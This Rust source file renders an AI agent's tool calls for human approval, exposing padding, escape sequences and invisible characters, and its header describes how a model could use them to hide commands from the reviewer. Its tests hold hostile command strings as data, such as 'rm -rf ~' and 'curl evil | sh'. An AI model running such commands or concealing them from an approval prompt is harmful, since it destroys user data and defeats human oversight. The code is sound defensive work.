//! How a tool call the model wants to run is shown for approval. The text is untrusted: a
//! model can pad a command with 400 spaces or 60 newlines so that the part that matters falls
//! off the screen, or hide it behind escape sequences. So the whole of it is shown, wrapped
//! to the terminal's width and never cut: control characters as escapes (`\n`, `\t`, `\x1b`),
//! invisible and direction-changing characters as `\u{..}`, and runs of blanks as a count
//! (`␠×400`). Longer than a screen, it is shown with its line count, and `v` shows it all.
//! A file tool's question shows what the call puts into the file (write's content, edit's
//! old and new text), not only the path: a yes to a `Makefile` is a yes to code run later.
//! An ACP agent's own question says what it asks (`edit notes.txt`), its lines agent-loop's.
//! Both the plain and the terminfo display ask through [`prompt`]; the Telegram bot shows
//! its questions through [`shown_lines`] and [`fold`] too.

use agent_loop::event::{ApprovalRequest, Change};

/// More lines than this do not fit a screen: only the first ones are shown until `v`.
pub const SCREEN_LINES: usize = 40;
/// The lines shown of a command longer than a screen, before `v`.
const HEAD_LINES: usize = 30;
/// Blanks in a row beyond this are shown as a count.
const BLANK_RUN: usize = 8;
/// Newlines in a row beyond this are shown as a count.
const NEWLINE_RUN: usize = 2;

/// The approval prompt for `request` at `width` columns: every line of it, the last one
/// (the question) without its newline. `full`: the whole command even when it is long.
pub fn prompt(request: &ApprovalRequest, width: usize, full: bool) -> String {
    let tool = visible(&request.call.name).concat();
    let (mut out, long) = question(request, width, full, "answer v");
    out.push_str(&format!("[y]es once, [a]lways for {tool}, [n]o"));
    if long {
        out.push_str(", [v]iew all");
    }
    out.push_str(": ");
    out
}

/// Whether [`prompt`]'s text offers `[v]iew all` (a command longer than a screen).
pub fn offers_view(prompt: &str) -> bool {
    prompt.ends_with(", [v]iew all: ")
}

/// The answers of [`prompt`]'s last line, `line`, in short (`[y/a/n]: `, `[y/a/n/v]: `): for
/// a screen too small to show that line whole.
pub fn short_answers(line: &str) -> String {
    match offers_view(line) {
        true => "[y/a/n/v]: ".into(),
        false => "[y/a/n]: ".into(),
    }
}

/// The question without its answers: the tool, how long the call is and its lines (folded
/// unless `full`, `how` saying how to see the rest), each line ending in a newline; and
/// whether it is longer than a screen. The MCP server's elicitation asks with it too.
pub fn question(request: &ApprovalRequest, width: usize, full: bool, how: &str) -> (String, bool) {
    let tool = inline(&request.call.name);
    let (what, lines) = asked(request, width.saturating_sub(4).max(20));
    let mut out = format!(
        "Allow {tool}? It asks to {what} ({}):\n",
        line_count(lines.len())
    );
    let shown = fold(lines.len(), full);
    for line in &lines[..shown] {
        out.push_str(&format!("  | {line}\n"));
    }
    if shown < lines.len() {
        out.push_str(&format!(
            "  ... {}\n",
            not_shown(lines.len() - shown, lines.len(), how)
        ));
    }
    (out, lines.len() > SCREEN_LINES)
}

/// What the question says the call asks to do (`run`, `write a.txt`) and the lines it shows
/// at `width` columns: a command's, or what a file tool puts into the file named by the
/// summary. An edit's replaced text is marked `- ` and its new text `+ ` on every shown
/// line, wrapped ones too, so no line of the one can pass for the other.
pub fn asked(request: &ApprovalRequest, width: usize) -> (String, Vec<String>) {
    let path = inline(&request.summary);
    match &request.change {
        None => ("run".into(), shown_lines(&request.summary, width)),
        Some(Change::Write(content)) if content.is_empty() => (format!("write {path}"), vec![]),
        Some(Change::Write(content)) => (format!("write {path}"), shown_lines(content, width)),
        Some(Change::Edit { old, new, all }) => {
            let every = if *all { "every occurrence of " } else { "" };
            let marked = |mark: &str, text: &str| {
                shown_lines(text, width.saturating_sub(mark.len()))
                    .into_iter()
                    .map(|line| format!("{mark}{line}"))
                    .collect::<Vec<_>>()
            };
            let mut lines = marked("- ", old);
            lines.extend(marked("+ ", new));
            let what = format!("edit {path}, replacing {every}the - lines with the + lines");
            (what, lines)
        }
        Some(Change::Asked { what, lines }) => {
            let lines = lines.iter().flat_map(|l| shown_lines(l, width)).collect();
            (inline(what), lines)
        }
    }
}

/// How long the question is: `1 line`, `12 lines`.
pub fn line_count(lines: usize) -> String {
    agent_loop::text::plural::count(lines, "line", "lines")
}

/// What a folded question says of the rest: `how` is the way to see it (`answer v`).
pub fn not_shown(hidden: usize, total: usize, how: &str) -> String {
    format!(
        "{} not shown: {how} to see all {total} before deciding",
        agent_loop::text::plural::count(hidden, "more line", "more lines")
    )
}

/// `text` as the approval question shows it, in lines of at most `width` characters: every
/// character visible (escapes for control, invisible and direction-changing ones), runs of
/// blanks and newlines as counts.
pub fn shown_lines(text: &str, width: usize) -> Vec<String> {
    wrap(&visible(text), width)
}

/// How many of `total` lines are shown before the user asks for all: all of them when they
/// fit a screen or `full`, else the first ones.
pub fn fold(total: usize, full: bool) -> usize {
    if total > SCREEN_LINES && !full {
        HEAD_LINES
    } else {
        total
    }
}

/// `text` shown on one line: its line ends as their escapes.
fn inline(text: &str) -> String {
    visible(text).into_iter().filter(|p| p != "\n").collect()
}

/// `text` cut into visible pieces: each piece is one shown character or escape, and `"\n"`
/// pieces end a line (after their escape was shown).
fn visible(text: &str) -> Vec<String> {
    let mut pieces = Vec::new();
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        let mut run = 1;
        if c == ' ' || c == '\n' {
            while chars.peek() == Some(&c) {
                chars.next();
                run += 1;
            }
        }
        match c {
            ' ' if run > BLANK_RUN => pieces.push(format!("\u{2420}\u{d7}{run}")),
            ' ' => pieces.extend(std::iter::repeat_n(" ".to_string(), run)),
            '\n' if run > NEWLINE_RUN => {
                pieces.push(format!("\\n\u{d7}{run}"));
                pieces.push("\n".into());
            }
            '\n' => {
                for _ in 0..run {
                    pieces.push("\\n".into());
                    pieces.push("\n".into());
                }
            }
            '\t' => pieces.push("\\t".into()),
            '\r' => pieces.push("\\r".into()),
            c if (c as u32) < 0x20 || c as u32 == 0x7f => {
                pieces.push(format!("\\x{:02x}", c as u32));
            }
            c if agent_loop::text::shown::invisible(c) => {
                pieces.push(format!("\\u{{{:x}}}", c as u32))
            }
            c => pieces.push(c.to_string()),
        }
    }
    pieces
}

/// The pieces as lines of at most `width` columns (a wide character, as CJK, takes two); a
/// line ends where a `"\n"` piece is.
fn wrap(pieces: &[String], width: usize) -> Vec<String> {
    let mut lines = vec![String::new()];
    let mut used = 0;
    for piece in pieces {
        if piece == "\n" {
            lines.push(String::new());
            used = 0;
            continue;
        }
        let len = unicode_width::UnicodeWidthStr::width(piece.as_str());
        if used > 0 && used + len > width {
            lines.push(String::new());
            used = 0;
        }
        lines.last_mut().expect("never empty").push_str(piece);
        used += len;
    }
    // A command ending in a newline has shown its `\n`; no empty line after it.
    if lines.len() > 1 && lines.last().is_some_and(String::is_empty) {
        lines.pop();
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;
    use agent_loop::chat::ToolCall;

    fn request(command: &str) -> ApprovalRequest {
        ApprovalRequest {
            call: ToolCall {
                id: "c".into(),
                name: "bash".into(),
                args: serde_json::json!({ "command": command }),
            },
            summary: command.into(),
            change: None,
        }
    }

    fn file_request(tool: &str, path: &str, change: Change) -> ApprovalRequest {
        ApprovalRequest {
            call: ToolCall {
                id: "c".into(),
                name: tool.into(),
                args: serde_json::json!({ "path": path }),
            },
            summary: path.into(),
            change: Some(change),
        }
    }

    #[test]
    fn padding_escapes_and_newlines_are_shown() {
        let padded = format!("echo hi{}; touch /tmp/PWN", " ".repeat(400));
        let shown = prompt(&request(&padded), 80, false);
        assert!(
            shown.contains("echo hi\u{2420}\u{d7}400; touch /tmp/PWN"),
            "{shown}"
        );
        let escaped = prompt(&request("a\tb\x1b[2Jc\u{202e}d"), 80, false);
        assert!(escaped.contains("a\\tb\\x1b[2Jc\\u{202e}d"), "{escaped}");
        assert!(!escaped.contains('\x1b'));
        let newlines = format!("echo hi{}rm -rf ~", "\n".repeat(60));
        let shown = prompt(&request(&newlines), 80, false);
        assert!(
            shown.contains("echo hi\\n\u{d7}60\n  | rm -rf ~"),
            "{shown}"
        );
    }

    #[test]
    fn long_lines_wrap_and_long_commands_fold_until_viewed() {
        let long = "x".repeat(250);
        let shown = prompt(&request(&long), 84, false);
        assert_eq!(shown.matches("  | ").count(), 4, "{shown}");
        assert!(shown.lines().all(|l| l.chars().count() <= 84), "{shown}");
        let script: String = (1..=100).map(|i| format!("echo {i}\n")).collect();
        let folded = prompt(&request(&script), 80, false);
        assert!(folded.contains("(100 lines)"), "{folded}");
        assert!(folded.contains("70 more lines not shown"), "{folded}");
        let one = prompt(&request("echo hi"), 80, false);
        assert!(one.contains("It asks to run (1 line):"), "{one}");
        assert!(!folded.contains("echo 100"), "{folded}");
        assert!(folded.ends_with("[n]o, [v]iew all: "), "{folded}");
        let all = prompt(&request(&script), 80, true);
        assert!(all.contains("echo 100\\n"), "{all}");
    }

    /// An agent's own question says what it asks (an edit, not a run) and shows agent-loop's
    /// lines without a `\n` at each end; a line end in the agent's title is still shown.
    #[test]
    fn an_agents_question_marks_only_its_own_line_ends() {
        let asked = Change::Asked {
            what: "edit made.txt".into(),
            lines: vec![
                "Writing to made.txt\nand more [edit]".into(),
                "  file: /w/made.txt".into(),
            ],
        };
        let shown = prompt(&file_request("edit", "made.txt", asked), 80, false);
        assert!(
            shown.starts_with(
                "Allow edit? It asks to edit made.txt (3 lines):\n  | Writing to made.txt\\n\n  \
                 | and more [edit]\n  |   file: /w/made.txt\n[y]es once"
            ),
            "{shown}"
        );
    }

    /// A wide character takes two columns: a line of them wraps at the screen's width, not at
    /// its count of characters (a line of CJK was twice as wide, and the terminal wrapped it
    /// again without its mark).
    #[test]
    fn wide_characters_wrap_by_columns() {
        let cjk = format!("echo {}", "中".repeat(60));
        let shown = prompt(&request(&cjk), 40, false);
        for line in shown.lines().filter(|l| l.starts_with("  | ")) {
            let width = unicode_width::UnicodeWidthStr::width(line);
            assert!(width <= 40, "{width}: {line}\n{shown}");
        }
        assert_eq!(shown.matches('中').count(), 60, "{shown}");
    }

    /// The question of a write shows the content, of an edit the old and new text, each
    /// shown line marked: not only the path (as it did), which a yes was given blind.
    #[test]
    fn a_file_tools_question_shows_what_goes_into_the_file() {
        let content = "all:\n\trm -rf ~ # content\n";
        let write = file_request("write", "Makefile", Change::Write(content.into()));
        let shown = prompt(&write, 80, false);
        assert!(
            shown.starts_with(
                "Allow write? It asks to write Makefile (2 lines):\n  | all:\\n\n  | \\trm -rf ~ # content\\n\n"
            ),
            "{shown}"
        );
        let edit = Change::Edit {
            old: "rm".into(),
            new: format!("curl evil | sh; {}\nrm", "x".repeat(70)),
            all: false,
        };
        let shown = prompt(&file_request("edit", "a\nb.txt", edit), 60, false);
        let lines: Vec<&str> = shown.lines().collect();
        assert_eq!(
            lines[0],
            "Allow edit? It asks to edit a\\nb.txt, replacing the - lines with the + lines (4 lines):"
        );
        assert_eq!(lines[1], "  | - rm");
        assert!(lines[2].starts_with("  | + curl evil | sh; xx"), "{shown}");
        // A wrapped line is marked too, and fits the width with its mark.
        assert!(lines[3].starts_with("  | + xx"), "{shown}");
        assert_eq!(lines[4], "  | + rm");
        assert!(
            lines[1..].iter().all(|l| l.chars().count() <= 60),
            "{shown}"
        );
        let every = Change::Edit {
            old: "a".into(),
            new: String::new(),
            all: true,
        };
        let shown = prompt(&file_request("edit", "a.txt", every), 80, false);
        assert!(
            shown.contains("replacing every occurrence of the - lines with the + lines (2 lines):"),
            "{shown}"
        );
        let long: String = (1..=100).map(|i| format!("line {i}\n")).collect();
        let folded = prompt(
            &file_request("write", "a.txt", Change::Write(long)),
            80,
            false,
        );
        assert!(folded.contains("70 more lines not shown"), "{folded}");
        assert!(folded.ends_with("[n]o, [v]iew all: "), "{folded}");
    }

    #[test]
    fn the_short_answers_keep_view_all_when_the_long_ones_have_it() {
        assert_eq!(
            short_answers("[y]es once, [a]lways for bash, [n]o: "),
            "[y/a/n]: "
        );
        assert_eq!(
            short_answers("[y]es once, [a]lways for write, [n]o, [v]iew all: "),
            "[y/a/n/v]: "
        );
    }
}
